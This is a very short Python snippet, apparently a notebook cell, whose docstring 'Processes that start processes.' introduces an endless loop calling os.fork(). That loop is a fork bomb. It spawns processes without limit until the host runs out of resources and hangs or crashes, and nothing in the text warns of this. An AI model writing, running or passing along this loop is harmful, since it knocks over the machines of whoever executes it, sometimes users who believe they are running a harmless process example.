"""Processes that start processes."""

# %% after square
import os

while True:
    os.fork()
